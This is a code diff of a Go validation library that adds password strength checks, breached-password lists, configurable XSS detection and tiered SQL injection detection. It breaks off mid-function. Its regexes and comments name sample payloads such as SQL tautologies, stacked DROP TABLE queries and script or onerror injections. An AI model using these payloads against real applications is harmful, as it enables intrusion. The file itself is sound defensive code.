@@ -1,22 +1,27 @@
 // Package rule provides a collection of validation rules for various data types.
-// This file contains security-related validation rules for passwords, XSS protection, and SQL injection prevention.
+// This file contains security-related validation rules for passwords, XSS protection, and SQL and command injection prevention.
 package rule
 
 import (
+	"bufio"
+	"bytes"
 	"errors"
 	"fmt"
+	"io"
+	"math"
+	"os"
 	"regexp"
+	"slices"
+	"sort"
 	"strings"
+	"sync/atomic"
 	"unicode"
+	"unicode/utf8"
 )
 
-// Pre-compiled regexes for security validation (compiled once at init time).
+// Pre-compiled regexes for security validation (compiled once at init time and shared
+// by all rules, so Validate never compiles a pattern).
 var (
-	regexUpper   = regexp.MustCompile(`[A-Z]`)
-	regexLower   = regexp.MustCompile(`[a-z]`)
-	regexDigit   = regexp.MustCompile(`[0-9]`)
-	regexSpecial = regexp.MustCompile(`[^A-Za-z0-9]`)
-
 	// XSS attack patterns (case-insensitive)
 	regexScript      = regexp.MustCompile(`(?i)<script[^>]*>.*?</script>`)
 	regexJavascript  = regexp.MustCompile(`(?i)javascript:`)
@@ -34,36 +39,50 @@ var (
 	regexStyle       = regexp.MustCompile(`(?i)<style[^>]*>.*?</style>`)
 
 	// SQL injection patterns (case-insensitive)
-	regexSQLSelect    = regexp.MustCompile(`(?i)(select|insert|update|delete|drop|union|exec|execute)\s+`)
-	regexSQLAndOr     = regexp.MustCompile(`(?i)(\s+and\s+|\s+or\s+)[\d'"]`)
-	regexSQLXor       = regexp.MustCompile(`(?i)(\s+xor\s+|\s+nand\s+|\s+not\s+)[\d'"]`)
-	regexSQLLike      = regexp.MustCompile(`(?i)(\s+like\s+|\s+between\s+|\s+in\s+)[\d'"]`)
-	regexSQLIsNull    = regexp.MustCompile(`(?i)(\s+is\s+null|\s+is\s+not\s+null)`)
-	regexSQLComment   = regexp.MustCompile(`(?i)(--|#|\*|;)$`)
-	regexSQLQuote     = regexp.MustCompile(`(?i)'(\s*)(union|select|or|and)`)
-	regexSQLBlock     = regexp.MustCompile(`(?i)/\*.*\*/`)
-	regexSQLWaitFor   = regexp.MustCompile(`(?i)waitfor\s+delay\s+`)
-	regexSQLBenchmark = regexp.MustCompile(`(?i)benchmark\(.*\)`)
-	regexSQLSleep     = regexp.MustCompile(`(?i)sleep\(.*\)`)
+	regexSQLSelect      = regexp.MustCompile(`(?i)(select|insert|update|delete|drop|union|exec|execute)\s+`)
+	regexSQLAndOr       = regexp.MustCompile(`(?i)(\s+and\s+|\s+or\s+)[\d'"]`)
+	regexSQLXor         = regexp.MustCompile(`(?i)(\s+xor\s+|\s+nand\s+|\s+not\s+)[\d'"]`)
+	regexSQLLike        = regexp.MustCompile(`(?i)(\s+like\s+|\s+between\s+|\s+in\s+)[\d'"]`)
+	regexSQLIsNull      = regexp.MustCompile(`(?i)(\s+is\s+null|\s+is\s+not\s+null)`)
+	regexSQLComment     = regexp.MustCompile(`(?i)(--|#|\*|;)$`)
+	regexSQLQuote       = regexp.MustCompile(`(?i)'(\s*)(union|select|or|and)`)
+	regexSQLBlock       = regexp.MustCompile(`(?i)/\*.*\*/`)
+	regexSQLWaitFor     = regexp.MustCompile(`(?i)waitfor\s+delay\s+`)
+	regexSQLBenchmark   = regexp.MustCompile(`(?i)benchmark\(.*\)`)
+	regexSQLSleep       = regexp.MustCompile(`(?i)sleep\(.*\)`)
+	regexSQLUnionSelect = regexp.MustCompile(`(?i)\bunion(\s+all)?\s+select\b`)
+	regexSQLStacked     = regexp.MustCompile(`(?i);\s*(select|insert|update|delete|drop|alter|create|truncate|exec|execute|declare|shutdown)\b`)
+	regexSQLTautology   = regexp.MustCompile(`(?i)\b(or|and)\s+('[^']*'|"[^"]*"|\d+)\s*(=|<>|!=|>|<)\s*('[^']*'?|"[^"]*"?|\d+)`)
+	regexSQLQuoteEnd    = regexp.MustCompile(`'\s*(--|#|/\*)`)
+	regexSQLSelectFrom  = regexp.MustCompile(`(?i)\bselect\s+.+\s+from\s+\w`)
+	regexSQLInsertInto  = regexp.MustCompile(`(?i)\binsert\s+into\s+\w`)
+	regexSQLUpdateSet   = regexp.MustCompile(`(?i)\bupdate\s+\w+\s+set\s+\w+\s*=`)
+	regexSQLDeleteFrom  = regexp.MustCompile(`(?i)\bdelete\s+from\s+\w`)
+	regexSQLDropTable   = regexp.MustCompile(`(?i)\b(drop|truncate|alter)\s+(table|database|schema)\b`)
+	regexSQLExec        = regexp.MustCompile(`(?i)\bexec(ute)?\s+(xp_|sp_)|\bexec(ute)?\s*\(`)
 )
 
 // Security validation errors
 var (
 	// ErrPasswordStrength is returned when a password does not meet the strength requirements.
 	// This includes length, character types, and other password policy requirements.
-	ErrPasswordStrength = errors.New("password does not meet strength requirements")
+	ErrPasswordStrength = newError("password_strength", "password does not meet strength requirements")
 
 	// ErrPasswordComplex is returned when a password does not meet the complexity requirements.
 	// This includes minimum length, character variety, and forbidden patterns.
-	ErrPasswordComplex = errors.New("password does not meet complexity requirements")
+	ErrPasswordComplex = newError("password_complex", "password does not meet complexity requirements")
 
 	// ErrXSS is returned when input contains potential XSS (Cross-Site Scripting) attack patterns.
 	// This helps prevent malicious script injection in web applications.
-	ErrXSS = errors.New("input contains potential XSS attack")
+	ErrXSS = newError("xss", "input contains potential XSS attack")
 
 	// ErrSQLInjection is returned when input contains potential SQL injection attack patterns.
 	// This helps prevent malicious SQL query manipulation in database operations.
-	ErrSQLInjection = errors.New("input contains potential SQL injection")
+	ErrSQLInjection = newError("sql_injection", "input contains potential SQL injection")
+
+	// ErrShellMeta is returned when input contains shell metacharacters or command injection patterns.
+	// This helps prevent command injection when input is passed to a shell.
+	ErrShellMeta = newError("shell_meta", "input contains shell metacharacters")
 )
 
 // PasswordStrengthRule validates that a password meets strength requirements.
@@ -89,6 +108,39 @@ type PasswordStrengthRule struct {
 	requireLower   bool
 	requireNumber  bool
 	requireSpecial bool
+	minEntropy     float64
+	lengthUnit     lengthUnit
+}
+
+// lengthUnit is the unit in which PasswordStrength measures the length of a password.
+type lengthUnit int
+
+const (
+	// lengthDefault follows SetPasswordRuneLength.
+	lengthDefault lengthUnit = iota
+	lengthBytes
+	lengthRunes
+)
+
+// passwordRuneLength is set by SetPasswordRuneLength.
+var passwordRuneLength atomic.Bool
+
+// SetPasswordRuneLength sets whether PasswordStrength rules measure the length of
+// passwords in runes (Unicode code points) rather than in bytes, unless the rule calls
+// RuneLength or ByteLength itself. Measuring in bytes, the historical default, lets a
+// password of six Chinese characters, 18 bytes in UTF-8, pass MinLength(8); new
+// applications should enable rune length. The setting applies to all rules and is safe
+// for concurrent use, but is meant to be set once at start-up.
+//
+// Example:
+//
+//	func init() {
+//	    rule.SetPasswordRuneLength(true)
+//	}
+//
+//	err := rule.PasswordStrength().Validate("密码Aa1!")  // returns error (6 runes, but 10 bytes)
+func SetPasswordRuneLength(runes bool) {
+	passwordRuneLength.Store(runes)
 }
 
 // PasswordStrength creates a new password strength validation rule.
@@ -136,6 +188,9 @@ func (r *PasswordStrengthRule) Validate(value string) error {
 	}
 
 	length := len(value)
+	if r.lengthUnit == lengthRunes || r.lengthUnit == lengthDefault && passwordRuneLength.Load() {
+		length = utf8.RuneCountInString(value)
+	}
 	if length < r.minLength || length > r.maxLength {
 		if r.e != nil {
 			return r.e
@@ -166,7 +221,8 @@ func (r *PasswordStrengthRule) Validate(value string) error {
 	if (r.requireUpper && !hasUpper) ||
 		(r.requireLower && !hasLower) ||
 		(r.requireNumber && !hasNumber) ||
-		(r.requireSpecial && !hasSpecial) {
+		(r.requireSpecial && !hasSpecial) ||
+		(r.minEntropy > 0 && passwordEntropy(value, nil) < r.minEntropy) {
 		if r.e != nil {
 			return r.e
 		}
@@ -176,7 +232,13 @@ func (r *PasswordStrengthRule) Validate(value string) error {
 	return nil
 }
 
-// MinLength sets the minimum required length for the password.
+// Describe returns the name, parameters and message of the rule.
+func (r *PasswordStrengthRule) Describe() RuleInfo {
+	return describe(r, r.e, ErrPasswordStrength)
+}
+
+// MinLength sets the minimum required length for the password, measured in bytes unless
+// RuneLength or SetPasswordRuneLength is used.
 //
 // Example:
 //
@@ -196,6 +258,31 @@ func (r *PasswordStrengthRule) MaxLength(length int) *PasswordStrengthRule {
 	return r
 }
 
+// RuneLength makes MinLength and MaxLength count runes (Unicode code points) instead of
+// bytes, so that a password of six Chinese characters is six characters long, not 18.
+//
+// Example:
+//
+//	rule := PasswordStrength().RuneLength().RequireUpper(false).RequireLower(false)
+//	err := rule.Validate("密码安全1!")      // returns error (6 runes)
+//	err = rule.Validate("密码安全很重要1!")  // returns nil (9 runes)
+func (r *PasswordStrengthRule) RuneLength() *PasswordStrengthRule {
+	r.lengthUnit = lengthRunes
+	return r
+}
+
+// ByteLength makes MinLength and MaxLength count bytes regardless of
+// SetPasswordRuneLength, for passwords passed to functions with a byte limit, such as
+// bcrypt, which only uses the first 72 bytes.
+//
+// Example:
+//
+//	rule := PasswordStrength().ByteLength().MaxLength(72)
+func (r *PasswordStrengthRule) ByteLength() *PasswordStrengthRule {
+	r.lengthUnit = lengthBytes
+	return r
+}
+
 // RequireUpper sets whether uppercase letters are required in the password.
 //
 // Example:
@@ -244,7 +331,7 @@ func (r *PasswordStrengthRule) RequireSpecial(require bool) *PasswordStrengthRul
 //	rule := PasswordStrength().Errf("Password must be at least 8 characters with mixed case, numbers, and special characters")
 func (r *PasswordStrengthRule) Errf(format string, args ...any) *PasswordStrengthRule {
 	if format != "" {
-		r.e = fmt.Errorf(format, args...)
+		r.e = wrapf(r.e, format, args...)
 	}
 	return r
 }
@@ -267,7 +354,11 @@ type PasswordComplexRule struct {
 	minLength         int
 	minCharTypes      int
 	maxRepeatedChars  int
+	maxSequence       int
 	forbiddenPatterns []string
+	forbiddenList     packedList
+	listErr           error
+	notContaining     []string
 }
 
 // PasswordComplex creates a new password complexity validation rule.
@@ -314,6 +405,9 @@ func (r *PasswordComplexRule) Validate(value string) error {
 	if value == "" {
 		return nil
 	}
+	if r.listErr != nil {
+		return r.listErr
+	}
 
 	if len(value) < r.minLength {
 		if r.e != nil {
@@ -322,19 +416,30 @@ func (r *PasswordComplexRule) Validate(value string) error {
 		return ErrPasswordComplex
 	}
 
-	// Check character type count
-	var charTypes int
-	if regexUpper.MatchString(value) {
-		charTypes++
-	}
-	if regexLower.MatchString(value) {
-		charTypes++
-	}
-	if regexDigit.MatchString(value) {
-		charTypes++
+	// Check character type count and repeated characters in a single pass
+	var (
+		upper, lower, digit, special bool
+		counts                       [256]int
+	)
+	for i := 0; i < len(value); i++ {
+		c := value[i]
+		switch {
+		case c >= 'A' && c <= 'Z':
+			upper = true
+		case c >= 'a' && c <= 'z':
+			lower = true
+		case c >= '0' && c <= '9':
+			digit = true
+		default:
+			special = true
+		}
+		counts[c]++
 	}
-	if regexSpecial.MatchString(value) {
-		charTypes++
+	charTypes := 0
+	for _, has := range [...]bool{upper, lower, digit, special} {
+		if has {
+			charTypes++
+		}
 	}
 
 	if charTypes < r.minCharTypes {
@@ -345,8 +450,8 @@ func (r *PasswordComplexRule) Validate(value string) error {
 	}
 
 	// Check repeated characters
-	for i := 0; i <= len(value)-r.maxRepeatedChars; i++ {
-		if strings.Count(value, value[i:i+1]) > r.maxRepeatedChars {
+	for _, count := range counts {
+		if count > r.maxRepeatedChars {
 			if r.e != nil {
 				return r.e
 			}
@@ -354,10 +459,18 @@ func (r *PasswordComplexRule) Validate(value string) error {
 		}
 	}
 
-	// Check forbidden patterns
+	// Check sequences, keyboard walks and repeated blocks
+	if r.maxSequence > 0 && longestPasswordSequence(value) > r.maxSequence {
+		if r.e != nil {
+			return r.e
+		}
+		return ErrPasswordComplex
+	}
+
+	// Check forbidden patterns (stored in lower case)
 	valueLower := strings.ToLower(value)
 	for _, pattern := range r.forbiddenPatterns {
-		if strings.Contains(valueLower, strings.ToLower(pattern)) {
+		if strings.Contains(valueLower, pattern) {
 			if r.e != nil {
 				return r.e
 			}
@@ -365,9 +478,35 @@ func (r *PasswordComplexRule) Validate(value string) error {
 		}
 	}
 
+	// Check the forbidden list (stored sorted in lower case)
+	if r.forbiddenList.contains(valueLower) {
+		if r.e != nil {
+			return r.e
+		}
+		return ErrPasswordComplex
+	}
+
+	// Check user information (stored folded)
+	if len(r.notContaining) > 0 {
+		folded := foldLeet(value)
+		for _, info := range r.notContaining {
+			if strings.Contains(folded, info) {
+				if r.e != nil {
+					return r.e
+				}
+				return ErrPasswordComplex
+			}
+		}
+	}
+
 	return nil
 }
 
+// Describe returns the name, parameters and message of the rule.
+func (r *PasswordComplexRule) Describe() RuleInfo {
+	return describe(r, r.e, ErrPasswordComplex)
+}
+
 // MinLength sets the minimum required length for the password.
 //
 // Example:
@@ -399,16 +538,238 @@ func (r *PasswordComplexRule) MaxRepeatedChars(count int) *PasswordComplexRule {
 	return r
 }
 
+// MaxSequenceLength sets the maximum length of predictable runs in the password:
+// consecutive letters or digits ("abcd", "98765"), straight walks across adjacent keys of
+// a QWERTY keyboard ("qwerty", "1qaz") and repeated blocks of up to 32 characters
+// ("abcabc", "1212"). Letters are compared case-insensitively. Values less than or equal to zero disable the check,
+// which is the default.
+//
+// Example:
+//
+//	rule := PasswordComplex().MaxSequenceLength(3)
+//	err := rule.Validate("Tr0ub4dor&3Horse")   // returns nil
+//	err = rule.Validate("Asdfgh!Summer2024")   // returns error (keyboard walk "asdfgh")
+func (r *PasswordComplexRule) MaxSequenceLength(n int) *PasswordComplexRule {
+	r.maxSequence = n
+	return r
+}
+
+// longestPasswordSequence returns the length of the longest run of consecutive
+// characters, straight keyboard walk or repeated block in value.
+func longestPasswordSequence(value string) int {
+	runes := []rune(strings.ToLower(value))
+	longest := min(len(runes), 1)
+
+	// Consecutive characters and keyboard walks continue while each step is the same
+	seq, walk := 1, 1
+	var seqDelta rune
+	var walkStep [2]float64
+	for i := 1; i < len(runes); i++ {
+		prev, cur := runes[i-1], runes[i]
+		if delta := cur - prev; (delta == 1 || delta == -1) && charClass(cur) == charClass(prev) && charClass(cur) != 3 {
+			seq = Ternary(seq > 1 && delta == seqDelta, seq+1, 2)
+			seqDelta = delta
+		} else {
+			seq = 1
+		}
+		from, ok1 := keyPositions[prev]
+		to, ok2 := keyPositions[cur]
+		step := [2]float64{to.x - from.x, float64(to.y - from.y)}
+		if ok1 && ok2 && step != [2]float64{} && math.Abs(step[0]) <= 1 && math.Abs(step[1]) <= 1 {
+			walk = Ternary(walk > 1 && step == walkStep, walk+1, 2)
+			walkStep = step
+		} else {
+			walk = 1
+		}
+		longest = max(longest, seq, walk)
+	}
+
+	// A block of size characters repeats while each character equals the one size
+	// characters before it; the run must cover the block at least twice. Blocks are at
+	// most maxRepeatUnit characters long, which keeps the scan linear in the length
+	for size := 1; size <= min(len(runes)/2, maxRepeatUnit); size++ {
+		run := 0
+		for i := size; i < len(runes); i++ {
+			if runes[i] != runes[i-size] {
+				run = 0
+				continue
+			}
+			if run++; run >= size {
+				longest = max(longest, run+size)
+			}
+		}
+	}
+	return longest
+}
+
 // AddForbiddenPattern adds a pattern to the list of forbidden patterns in the password.
 //
 // Example:
 //
 //	rule := PasswordComplex().AddForbiddenPattern("qwerty")  // password cannot contain "qwerty"
 func (r *PasswordComplexRule) AddForbiddenPattern(pattern string) *PasswordComplexRule {
-	r.forbiddenPatterns = append(r.forbiddenPatterns, pattern)
+	r.forbiddenPatterns = append(r.forbiddenPatterns, strings.ToLower(pattern))
+	return r
+}
+
+// ForbiddenList rejects passwords that are on a dictionary read from reader, one password per
+// line, such as a list of breached passwords or of company-specific terms. Unlike
+// AddForbiddenPattern, the whole password must match an entry, case-insensitively. The
+// entries are packed into a sorted index, so that large lists take little more memory
+// than the file and are searched in logarithmic time; calling ForbiddenList again adds
+// to the list. Lines longer than 1024 bytes cannot be passwords and are skipped.
+//
+// If the dictionary cannot be read, Validate returns the read error for every non-empty
+// password, so that a missing list is not silently ignored.
+//
+// Example:
+//
+//	rule := PasswordComplex().ForbiddenList(strings.NewReader("Welcome2Acme!\nAcmeRocks#2024\n"))
+//	err := rule.Validate("welcome2acme!")  // returns error
+func (r *PasswordComplexRule) ForbiddenList(reader io.Reader) *PasswordComplexRule {
+	list := r.forbiddenList
+	buffered := bufio.NewReader(reader)
+	for {
+		line, isPrefix, err := buffered.ReadLine()
+		// Skip the rest of a line that does not fit in the buffer.
+		long := isPrefix
+		for isPrefix && err == nil {
+			_, isPrefix, err = buffered.ReadLine()
+		}
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			r.listErr = fmt.Errorf("failed to read forbidden password list: %w", err)
+			return r
+		}
+		if line = bytes.TrimSpace(line); len(line) > 0 && !long && len(line) <= maxForbiddenLineLength {
+			list.add(bytes.ToLower(line))
+		}
+	}
+	if uint64(len(list.data)) > math.MaxUint32 {
+		r.listErr = errors.New("forbidden password list is larger than 4 GiB")
+		return r
+	}
+	list.sort()
+	r.forbiddenList = list
 	return r
 }
 
+// ForbiddenFile rejects passwords that are on the dictionary in the file at path, in the
+// format of ForbiddenList.
+//
+// Example:
+//
+//	rule := PasswordComplex().ForbiddenFile("/etc/myapp/breached-passwords.txt")
+func (r *PasswordComplexRule) ForbiddenFile(path string) *PasswordComplexRule {
+	f, err := os.Open(path)
+	if err != nil {
+		r.listErr = fmt.Errorf("failed to open forbidden password list: %w", err)
+		return r
+	}
+	defer f.Close()
+	return r.ForbiddenList(f)
+}
+
+// maxForbiddenLineLength is the length in bytes above which ForbiddenList skips a line.
+const maxForbiddenLineLength = 1024
+
+// packedList is a sorted set of strings packed into a single byte slice, which takes far
+// less memory than a []string for dictionaries of millions of entries.
+type packedList struct {
+	data    []byte
+	offsets []uint32 // start of each entry in data
+}
+
+// entry returns the i-th entry of the list.
+func (l *packedList) entry(i int) []byte {
+	end := len(l.data)
+	if i+1 < len(l.offsets) {
+		end = int(l.offsets[i+1])
+	}
+	return l.data[l.offsets[i]:end]
+}
+
+// add appends an entry to the list, which must be sorted again before it is searched.
+func (l *packedList) add(entry []byte) {
+	l.offsets = append(l.offsets, uint32(len(l.data)))
+	l.data = append(l.data, entry...)
+}
+
+// sort sorts the entries of the list and removes duplicates.
+func (l *packedList) sort() {
+	order := make([]int, len(l.offsets))
+	for i := range order {
+		order[i] = i
+	}
+	slices.SortFunc(order, func(a, b int) int {
+		return bytes.Compare(l.entry(a), l.entry(b))
+	})
+	sorted := packedList{data: make([]byte, 0, len(l.data)), offsets: make([]uint32, 0, len(l.offsets))}
+	for i, j := range order {
+		if i == 0 || !bytes.Equal(l.entry(j), l.entry(order[i-1])) {
+			sorted.add(l.entry(j))
+		}
+	}
+	*l = sorted
+}
+
+// contains reports whether s is an entry of the sorted list.
+func (l *packedList) contains(s string) bool {
+	i := sort.Search(len(l.offsets), func(i int) bool {
+		return string(l.entry(i)) >= s
+	})
+	return i < len(l.offsets) && string(l.entry(i)) == s
+}
+
+// NotContaining rejects passwords that contain any of the given values, such as the
+// username, the local part of the email address or the company name. Values are matched
+// case-insensitively and with common l33t substitutions undone, so "J0hnD0e!" contains
+// "johndoe". Email addresses are reduced to their local part, and values with several
+// words are matched both as a whole, without spaces, and word by word. Values and words
+// shorter than 3 characters are ignored, as they would reject too many passwords.
+//
+// Example:
+//
+//	rule := PasswordComplex().NotContaining(user.Username, user.Email, "Acme Corp")
+//	err := rule.Validate("Acm3!Sunrise#2024")  // returns error (contains "acme")
+func (r *PasswordComplexRule) NotContaining(values ...string) *PasswordComplexRule {
+	for _, value := range values {
+		if at := strings.LastIndexByte(value, '@'); at >= 0 {
+			value = value[:at]
+		}
+		words := strings.Fields(value)
+		if len(words) > 1 {
+			words = append(words, strings.Join(words, ""))
+		}
+		for _, word := range words {
+			if utf8.RuneCountInString(word) >= minNotContainingLength {
+				r.notContaining = append(r.notContaining, foldLeet(word))
+			}
+		}
+	}
+	return r
+}
+
+// minNotContainingLength is the length of the shortest value NotContaining matches.
+const minNotContainingLength = 3
+
+// foldLeet returns s in lower case with common l33t substitutions replaced by the letter
+// they usually stand for, and "l" replaced by "i" since "1" and "|" stand for both.
+func foldLeet(s string) string {
+	return strings.Map(func(c rune) rune {
+		c = unicode.ToLower(c)
+		if c == 'l' {
+			return 'i'
+		}
+		if letters, ok := leetSubstitutions[c]; ok {
+			return letters[0]
+		}
+		return c
+	}, s)
+}
+
 // Errf sets a custom error message for password complexity validation failures.
 // This allows for context-specific error messages.
 //
@@ -417,11 +778,36 @@ func (r *PasswordComplexRule) AddForbiddenPattern(pattern string) *PasswordCompl
 //	rule := PasswordComplex().Errf("Password must be complex and not contain common words")
 func (r *PasswordComplexRule) Errf(format string, args ...any) *PasswordComplexRule {
 	if format != "" {
-		r.e = fmt.Errorf(format, args...)
+		r.e = wrapf(r.e, format, args...)
 	}
 	return r
 }
 
+// xssPattern is a named XSS detection pattern.
+type xssPattern struct {
+	name  string
+	regex *regexp.Regexp
+}
+
+// defaultXSSPatterns are the patterns checked by XSS(), compiled once at init time.
+// Tag patterns are named after the tag so that AllowTags can remove them.
+var defaultXSSPatterns = []xssPattern{
+	{name: "script", regex: regexScript},
+	{name: "javascript", regex: regexJavascript},
+	{name: "vbscript", regex: regexVBScript},
+	{name: "onload", regex: regexOnload},
+	{name: "onerror", regex: regexOnerror},
+	{name: "onclick", regex: regexOnclick},
+	{name: "onmouseover", regex: regexOnmouseover},
+	{name: "eval", regex: regexEval},
+	{name: "expression", regex: regexExpression},
+	{name: "iframe", regex: regexIFrame},
+	{name: "img", regex: regexImg},
+	{name: "embed", regex: regexEmbed},
+	{name: "object", regex: regexObject},
+	{name: "style", regex: regexStyle},
+}
+
 // XSSRule validates that input does not contain potential XSS (Cross-Site Scripting) attack patterns.
 // This helps prevent malicious script injection in web applications.
 //
@@ -431,11 +817,16 @@ func (r *PasswordComplexRule) Errf(format string, args ...any) *PasswordComplexR
 //	err := rule.Validate("Hello, world!")  // returns nil
 //	err = rule.Validate("<script>alert('XSS')</script>")  // returns error
 type XSSRule struct {
-	e error
+	removed map[string]bool
+	extra   []xssPattern
+	invalid error
+	e       error
 }
 
 // XSS creates a new XSS protection validation rule.
-// The rule checks for common XSS attack patterns in the input.
+// The rule checks for common XSS attack patterns in the input: script and style blocks,
+// javascript: and vbscript: URLs, common event handlers, eval() and expression(), and
+// iframe, img, embed and object tags. All patterns are compiled once, not per call.
 //
 // Example:
 //
@@ -447,6 +838,56 @@ func XSS() *XSSRule {
 	}
 }
 
+// AddPattern adds a custom regular expression to the patterns checked by the rule.
+// The pattern can later be removed by passing the same string to RemovePattern.
+// If the pattern is invalid, the rule will always return an error.
+//
+// Example:
+//
+//	rule := XSS().AddPattern(`(?i)<svg[^>]*>`).AddPattern(`(?i)onfocus=`)
+func (r *XSSRule) AddPattern(pattern string) *XSSRule {
+	regex, err := getCompiledRegex(pattern)
+	if err != nil {
+		r.invalid = fmt.Errorf("invalid regular expression: %w", err)
+		return r
+	}
+	r.extra = append(r.extra, xssPattern{name: pattern, regex: regex})
+	return r
+}
+
+// RemovePattern removes patterns from the rule. Built-in patterns are identified by name
+// ("script", "javascript", "vbscript", "onload", "onerror", "onclick", "onmouseover",
+// "eval", "expression", "iframe", "img", "embed", "object" and "style"); patterns added
+// with AddPattern are identified by their pattern string.
+//
+// Example:
+//
+//	rule := XSS().RemovePattern("eval", "expression")  // allow formulas such as eval(x)
+func (r *XSSRule) RemovePattern(names ...string) *XSSRule {
+	if r.removed == nil {
+		r.removed = make(map[string]bool, len(names))
+	}
+	for _, name := range names {
+		r.removed[name] = true
+	}
+	return r
+}
+
+// AllowTags allows the given HTML tags, e.g. <img> in rich text. Event handler and
+// javascript: URL patterns still apply to the attributes of allowed tags.
+//
+// Example:
+//
+//	rule := XSS().AllowTags("img")
+//	err := rule.Validate(`<img src="cat.png">`)               // returns nil
+//	err = rule.Validate(`<img src="x" onerror="alert(1)">`)  // returns error (event handler)
+func (r *XSSRule) AllowTags(tags ...string) *XSSRule {
+	for _, tag := range tags {
+		r.RemovePattern(strings.ToLower(tag))
+	}
+	return r
+}
+
 // Validate checks if the given input contains potential XSS attack patterns.
 // Empty strings are considered valid (use Required() if needed).
 //
@@ -457,30 +898,38 @@ func XSS() *XSSRule {
 //	err = rule.Validate("<script>alert('XSS')</script>")  // returns error
 //	err = rule.Validate("")  // returns nil (empty string is valid)
 func (r *XSSRule) Validate(value string) error {
+	if r.invalid != nil {
+		return r.invalid
+	}
 	if value == "" {
 		return nil
 	}
 
-	// Check for common XSS attack patterns
-	xssPatterns := []*regexp.Regexp{
-		regexScript, regexJavascript, regexVBScript,
-		regexOnload, regexOnerror, regexOnclick, regexOnmouseover,
-		regexEval, regexExpression,
-		regexIFrame, regexImg, regexEmbed, regexObject, regexStyle,
-	}
-
-	for _, re := range xssPatterns {
-		if re.MatchString(value) {
-			if r.e != nil {
-				return r.e
-			}
-			return ErrXSS
+	if r.matches(defaultXSSPatterns, value) || r.matches(r.extra, value) {
+		if r.e != nil {
+			return r.e
 		}
+		return ErrXSS
 	}
 
 	return nil
 }
 
+// Describe returns the name, parameters and message of the rule.
+func (r *XSSRule) Describe() RuleInfo {
+	return describe(r, r.e, ErrXSS)
+}
+
+// matches reports whether value matches any of the patterns that have not been removed.
+func (r *XSSRule) matches(patterns []xssPattern, value string) bool {
+	for _, p := range patterns {
+		if !r.removed[p.name] && p.regex.MatchString(value) {
+			return true
+		}
+	}
+	return false
+}
+
 // Errf sets a custom error message for XSS validation failures.
 // This allows for context-specific error messages.
 //
@@ -489,11 +938,56 @@ func (r *XSSRule) Validate(value string) error {
 //	rule := XSS().Errf("Input contains potentially dangerous content")
 func (r *XSSRule) Errf(format string, args ...any) *XSSRule {
 	if format != "" {
-		r.e = fmt.Errorf(format, args...)
+		r.e = wrapf(r.e, format, args...)
 	}
 	return r
 }
 
+// sqlLevel is a SQLInjection strictness level. The zero value is the strictest level.
+type sqlLevel int
+
+const (
+	sqlStrict sqlLevel = iota
+	sqlBalanced
+	sqlLenient
+)
+
+// sqlPattern is a named SQL injection detection pattern. level is the most lenient
+// strictness level at which the pattern is still checked.
+type sqlPattern struct {
+	name  string
+	level sqlLevel
+	regex *regexp.Regexp
+}
+
+// defaultSQLPatterns are the patterns checked by SQLInjection(), compiled once at init time.
+var defaultSQLPatterns = []sqlPattern{
+	// High-confidence attack payloads, checked at every level.
+	{name: "union-select", level: sqlLenient, regex: regexSQLUnionSelect},
+	{name: "stacked-query", level: sqlLenient, regex: regexSQLStacked},
+	{name: "tautology", level: sqlLenient, regex: regexSQLTautology},
+	{name: "quote-comment", level: sqlLenient, regex: regexSQLQuoteEnd},
+	{name: "waitfor", level: sqlLenient, regex: regexSQLWaitFor},
+	{name: "benchmark", level: sqlLenient, regex: regexSQLBenchmark},
+	{name: "sleep", level: sqlLenient, regex: regexSQLSleep},
+	// Complete SQL statements and inline comments.
+	{name: "select-from", level: sqlBalanced, regex: regexSQLSelectFrom},
+	{name: "insert-into", level: sqlBalanced, regex: regexSQLInsertInto},
+	{name: "update-set", level: sqlBalanced, regex: regexSQLUpdateSet},
+	{name: "delete-from", level: sqlBalanced, regex: regexSQLDeleteFrom},
+	{name: "drop-table", level: sqlBalanced, regex: regexSQLDropTable},
+	{name: "exec", level: sqlBalanced, regex: regexSQLExec},
+	{name: "block-comment", level: sqlBalanced, regex: regexSQLBlock},
+	// Single keywords, operators and quotes before them, which also occur in ordinary text.
+	{name: "keyword", level: sqlStrict, regex: regexSQLSelect},
+	{name: "quote", level: sqlStrict, regex: regexSQLQuote},
+	{name: "and-or", level: sqlStrict, regex: regexSQLAndOr},
+	{name: "xor", level: sqlStrict, regex: regexSQLXor},
+	{name: "like", level: sqlStrict, regex: regexSQLLike},
+	{name: "is-null", level: sqlStrict, regex: regexSQLIsNull},
+	{name: "comment", level: sqlStrict, regex: regexSQLComment},
+}
+
 // SQLInjectionRule validates that input does not contain potential SQL injection attack patterns.
 // This helps prevent malicious SQL query manipulation in database operations.
 //
@@ -503,11 +997,18 @@ func (r *XSSRule) Errf(format string, args ...any) *XSSRule {
 //	err := rule.Validate("John Doe")  // returns nil
 //	err = rule.Validate("'; DROP TABLE users; --")  // returns error
 type SQLInjectionRule struct {
-	e error
+	level   sqlLevel
+	removed map[string]bool
+	extra   []sqlPattern
+	invalid error
+	e       error
 }
 
 // SQLInjection creates a new SQL injection protection validation rule.
 // The rule checks for common SQL injection attack patterns in the input.
+// By default it is strict and also rejects single SQL keywords and operators, so text
+// such as "union meeting agenda" is rejected; use Balanced or Lenient for free text.
+// All patterns are compiled once, not per call.
 //
 // Example:
 //
@@ -519,6 +1020,81 @@ func SQLInjection() *SQLInjectionRule {
 	}
 }
 
+// Strict checks every pattern, including single SQL keywords such as "union" or "drop"
+// and operators such as "or 1". This is the default.
+//
+// Example:
+//
+//	rule := SQLInjection().Strict()
+//	err := rule.Validate("union meeting agenda")  // returns error
+func (r *SQLInjectionRule) Strict() *SQLInjectionRule {
+	r.level = sqlStrict
+	return r
+}
+
+// Balanced checks for attack payloads and complete SQL statements such as
+// "SELECT ... FROM" or "DROP TABLE", but not for single keywords.
+//
+// Example:
+//
+//	rule := SQLInjection().Balanced()
+//	err := rule.Validate("union meeting agenda")  // returns nil
+//	err = rule.Validate("SELECT * FROM users")    // returns error
+func (r *SQLInjectionRule) Balanced() *SQLInjectionRule {
+	r.level = sqlBalanced
+	return r
+}
+
+// Lenient only checks for high-confidence attack payloads: UNION SELECT, stacked queries,
+// tautologies such as "OR 1=1", quotes followed by comments, and time-based
+// functions such as SLEEP(). Use it for free text such as comments and descriptions.
+//
+// Example:
+//
+//	rule := SQLInjection().Lenient()
+//	err := rule.Validate("please select one from the list")  // returns nil
+//	err = rule.Validate("x' OR '1'='1")                      // returns error
+func (r *SQLInjectionRule) Lenient() *SQLInjectionRule {
